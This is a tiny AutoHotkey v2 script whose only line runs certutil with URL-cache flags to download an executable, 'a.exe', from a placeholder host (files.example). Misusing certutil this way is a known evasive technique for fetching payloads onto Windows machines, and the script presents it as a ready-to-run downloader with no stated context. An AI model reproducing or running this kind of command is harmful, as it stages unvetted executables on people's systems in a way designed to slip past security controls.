#Requires AutoHotkey v2.0
Run 'certutil -urlcache -split -f http://files.example/a.exe a.exe'
